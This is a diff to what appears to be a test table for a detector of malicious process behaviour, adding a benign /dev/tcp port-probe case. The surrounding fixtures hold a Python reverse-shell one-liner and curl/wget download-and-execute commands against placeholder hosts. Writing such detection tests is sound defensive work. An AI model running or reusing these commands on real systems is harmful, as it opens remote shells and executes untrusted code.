@@ -82,8 +82,9 @@ CASES = {
          run("/usr/bin/python3", "python3 -c import socket,os;s=socket.socket();"
              "s.connect(('1.2.3.4',80));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')")],
         [run("/usr/bin/nc", "nc -z 10.0.0.1 22"), run("/usr/bin/python3", "python3 app.py"),
-         # a port probe loop over /dev/tcp is a scan, not a shell
-         run("/bin/bash", "bash -c for p in 1 2 3; do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null; done")]),
+         # a port probe (in a loop or not) over /dev/tcp is a scan, not a shell
+         run("/bin/bash", "bash -c for p in 1 2 3; do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null; done"),
+         run("/bin/bash", "bash -c echo > /dev/tcp/192.0.2.10/31337")]),
     "488597a6-c0b3-400d-8838-80619b109a42": (  # download and execute
         [run("/bin/bash", "bash -c curl -fsSL http://203.0.113.5/x.sh | sh"),
          run("/bin/sh", "sh -c wget -q http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
